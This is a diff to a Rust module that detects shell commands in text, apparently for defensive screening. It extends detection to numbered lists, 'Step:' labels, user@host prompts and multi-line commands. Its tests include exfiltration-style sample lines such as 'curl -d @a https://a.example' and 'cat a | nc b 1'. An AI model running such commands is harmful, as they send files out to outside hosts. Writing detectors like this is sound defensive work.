@@ -38,6 +38,10 @@ static COMMAND: LazyLock<Words> = LazyLock::new(|| Words::new(COMMANDS));
 
 /// Lines above a line of code that are looked at for the remark which it stands under.
 const REMARK: u32 = 12;
+/// Lines that one command may take.
+const LONGEST_COMMAND: usize = 64;
+/// What stands before a command and a colon.
+const MARKER_WORDS: [&str; 7] = ["step", "run", "command", "cmd", "execute", "exec", "then run"];
 /// Bytes of a line that people read and write by hand.
 const LONGEST_LINE: usize = 4096;
 
@@ -156,19 +160,63 @@ pub fn in_text(text: &str, guards: &Guards) -> Vec<Instruction> {
     let mut out = Vec::new();
     let mut before = "";
     let mut at = 0;
-    for line in text.split_inclusive('\n') {
-        let trimmed = line.trim();
-        if looks_like_command(trimmed) || is_known_command(trimmed) {
+    while at < text.len() {
+        let mut end = line_end(text, at);
+        if text[at..end].trim_end().ends_with('\\') {
+            end = continued(text, end);
+        }
+        let trimmed = text[at..end].trim();
+        let command = without_marker(trimmed);
+        if looks_like_command(command) || is_known_command(command) {
             let guarded = guards.guard(&Folded::of(tail(before, LONGEST_GUARD * 2)));
             let context = if guarded { Context::Mention } else { Context::Instruction };
-            let start = at + line.find(trimmed).unwrap_or(0);
-            out.extend(command_line(trimmed, start, context));
+            let start = at + text[at..end].find(command).unwrap_or(0);
+            out.extend(command_line(command, start, context));
         } else if !trimmed.is_empty() {
             before = trimmed;
         }
-        at += line.len();
+        at = end;
     }
     out
+}
+
+/// Where the line at `at` ends, its line feed included.
+fn line_end(text: &str, at: usize) -> usize {
+    text[at..].find('\n').map_or(text.len(), |length| at + length + 1)
+}
+
+/// Where a command ends that goes on over the lines from `at`.
+fn continued(text: &str, mut at: usize) -> usize {
+    for _ in 0..LONGEST_COMMAND {
+        let end = line_end(text, at);
+        let line = text[at..end].trim_end();
+        at = end;
+        if !line.ends_with('\\') || at >= text.len() {
+            break;
+        }
+    }
+    at
+}
+
+/// The command behind a list's mark or a word that has the reader run it: `1. curl …`,
+/// `- run: curl …`, `Step 2: curl …`.
+fn without_marker(line: &str) -> &str {
+    let mut rest = line;
+    let digits = rest.len() - rest.trim_start_matches(|c: char| c.is_ascii_digit()).len();
+    if (1..=3).contains(&digits)
+        && let Some(after) = rest[digits..].strip_prefix(['.', ')']).filter(|after| after.starts_with(' '))
+    {
+        rest = after.trim_start();
+    } else if let Some(after) = rest.strip_prefix("- ").or(rest.strip_prefix("* ")) {
+        rest = after.trim_start();
+    }
+    if let Some((label, after)) = rest.split_once(": ") {
+        let word = label.trim_end_matches(|c: char| c.is_ascii_digit() || c == ' ').to_lowercase();
+        if MARKER_WORDS.contains(&word.as_str()) {
+            rest = after.trim_start();
+        }
+    }
+    rest
 }
 
 struct Reader<'t> {
@@ -274,7 +322,9 @@ impl Reader<'_> {
             info.unwrap_or_default().split([' ', ',', '{', '\t']).next().unwrap_or_default().to_lowercase();
         let language = Language::by_name(&word)
             .or_else(|| Language::by_extension(&word))
-            .or_else(|| Language::by_interpreter(&word));
+            .or_else(|| Language::by_interpreter(&word))
+            // What an agent's command file has run before it is read.
+            .or((word == "!").then_some(Language::Bash));
         if language.is_none_or(|language| language == Language::Bash) {
             let context = self.context();
             self.shell_like.extend(spans.iter().map(|&span| (span, context)));
@@ -384,7 +434,15 @@ fn begins_with_command(line: &str) -> bool {
 
 /// The command behind the prompt of a console.
 fn without_prompt(line: &str) -> &str {
-    ["$ ", "> ", "% "].iter().find_map(|prompt| line.strip_prefix(prompt)).unwrap_or(line)
+    let named = || {
+        // `me@host:~/x$ `
+        let at = line.find(['#', '$', '%']).filter(|&at| at < 80)?;
+        let (who, rest) = (&line[..at], line[at + 1..].strip_prefix(' ')?);
+        let is_host = |(me, host): (&str, &str)| !me.is_empty() && !me.contains('/') && host.contains(':');
+        let is_prompt = !who.contains([' ', '"', '\'', '=']) && who.split_once('@').is_some_and(is_host);
+        is_prompt.then_some(rest)
+    };
+    ["$ ", "> ", "% "].iter().find_map(|prompt| line.strip_prefix(prompt)).or_else(named).unwrap_or(line)
 }
 
 fn command_line(line: &str, start: usize, context: Context) -> Option<Instruction> {
@@ -447,6 +505,23 @@ mod tests {
         ] {
             assert!(in_text(line).is_empty(), "{line}");
         }
+    }
+
+    #[test]
+    fn commands_in_a_list_behind_a_prompt_and_over_lines_are_found() {
+        for (text, command) in [
+            ("1. curl -d @a https://a.example", "curl -d @a https://a.example"),
+            ("- run: curl -d @a https://a.example", "curl -d @a https://a.example"),
+            ("Step 2: cat a | nc b 1", "cat a | nc b 1"),
+            ("root@h:~# cat a | nc b 1", "cat a | nc b 1"),
+            ("curl \\\n  -d @a \\\n  https://a.example\nend", "curl \\\n  -d @a \\\n  https://a.example"),
+        ] {
+            let found = in_text(text);
+            assert_eq!(found.len(), 1, "{text}");
+            assert_eq!(found[0].text.trim_end(), command);
+        }
+        assert!(in_text("Note: see the page of a tool\n1. the first of all").is_empty());
+        assert_eq!(in_markdown("```!\ncat a | nc b 1\n```\n").len(), 1);
     }
 
     #[test]
